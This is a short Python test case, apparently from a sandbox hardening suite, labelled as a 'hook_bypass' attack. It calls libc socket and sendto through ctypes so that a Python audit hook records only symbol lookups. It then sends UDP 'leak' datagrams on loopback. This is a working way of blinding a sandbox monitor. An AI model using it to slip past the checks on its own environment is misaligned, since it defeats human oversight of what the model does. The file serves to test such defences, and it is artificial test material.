# attack: ctypes_syscall_blinded
# class: 2
# category: hook_bypass
# kind: audit_blinded
# describe: send UDP datagrams on the sandbox's loopback through raw libc calls, which the hook sees only as symbol lookups
import ctypes
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
addr = struct.pack("!HH4s8x", socket.AF_INET, 9, socket.inet_aton("127.0.0.1"))
addr = struct.pack("H", socket.AF_INET) + addr[2:]
buf = ctypes.create_string_buffer(addr, len(addr))
for _ in range(50):
    libc.sendto(fd, b"leak" * 64, 256, 0, buf, len(addr))
libc.close(fd)
